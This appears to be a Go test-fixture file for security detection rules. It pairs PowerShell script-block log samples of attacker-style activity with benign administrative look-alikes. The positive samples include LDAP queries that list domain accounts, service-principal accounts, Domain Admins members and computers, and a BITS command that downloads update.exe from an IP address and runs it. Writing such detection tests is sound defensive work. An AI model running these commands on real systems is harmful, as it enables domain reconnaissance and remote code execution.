package detect

// Samples for the LDAP-searcher discovery rules and BITS downloads from a
// script block: what PowerShell script-block logging (4104) records when an
// implant lists the domain's accounts, groups and computers through .NET, or
// stages a file over BITS, and the administration scripts that look like it.

func init() {
	const ps = "Microsoft-Windows-PowerShell/Operational"
	rulePositives = append(rulePositives, []ruleSample{
		{
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s = New-Object System.DirectoryServices.DirectorySearcher([ADSI]"LDAP://DC=shire,DC=com")
$s.Filter = "(&(objectCategory=person)(objectClass=user))"
$s.PageSize = 1000
$s.FindAll() | ForEach-Object { $_.Properties.samaccountname }`,
			},
		},
		{
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `([adsisearcher]"(&(sAMAccountType=805306368)(servicePrincipalName=*))").FindAll()`,
			},
		},
		{
			ID:      "97d73d6e-264d-4de2-8d33-5fceed58d463", // Domain Groups Searched With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$searcher = [adsisearcher]"(&(objectCategory=group)(cn=Domain Admins))"
$searcher.FindOne().Properties.member`,
			},
		},
		{
			ID:      "cbbdab8e-9445-49e2-94a5-93bec50901a1", // Domain Computers Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$d = New-Object System.DirectoryServices.DirectorySearcher
$d.Filter = "(objectCategory=computer)"
$d.PropertiesToLoad.Add("dnshostname") | Out-Null
$d.FindAll()`,
			},
		},
		{
			ID:      "6d8e128d-6bc4-4dbc-9b7e-cbf1eb3397eb", // Script Block Downloads a File With BITS
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Start-BitsTransfer -Source "http://172.18.39.5:8080/update.exe" -Destination "$env:TEMP\update.exe"; & "$env:TEMP\update.exe"`,
			},
		},
	}...)
	ruleNegatives = append(ruleNegatives, []ruleSample{
		{
			// A helpdesk script looks up one named account.
			ID:      "e5cf0e53-066e-4670-affc-40789c0a574a", // Domain Accounts Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s = New-Object System.DirectoryServices.DirectorySearcher
$s.Filter = "(&(objectClass=user)(sAMAccountName=$UserName))"
$u = $s.FindOne()
if ($u) { $u.Properties.mail }`,
			},
		},
		{
			// A searcher for shared printers selects no group.
			ID:      "97d73d6e-264d-4de2-8d33-5fceed58d463", // Domain Groups Searched With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `([adsisearcher]"(objectCategory=printQueue)").FindAll() | ForEach-Object { $_.Properties.printername }`,
			},
		},
		{
			// The computer's own object, read through ADSI without a search.
			ID:      "cbbdab8e-9445-49e2-94a5-93bec50901a1", // Domain Computers Listed With an LDAP Searcher in a Script Block
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$sys = New-Object -ComObject ADSystemInfo
$dn = $sys.GetType().InvokeMember("ComputerName", "GetProperty", $null, $sys, $null)
([ADSI]"LDAP://$dn").Properties.objectClass -contains 'computer'`,
			},
		},
		{
			// A software deployment copies its package from a file share.
			ID:      "6d8e128d-6bc4-4dbc-9b7e-cbf1eb3397eb", // Script Block Downloads a File With BITS
			Channel: ps, EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Start-BitsTransfer -Source "\\fs01\deploy\agent.msi" -Destination "C:\Windows\Temp\agent.msi" -Priority Foreground`,
			},
		},
	}...)
}
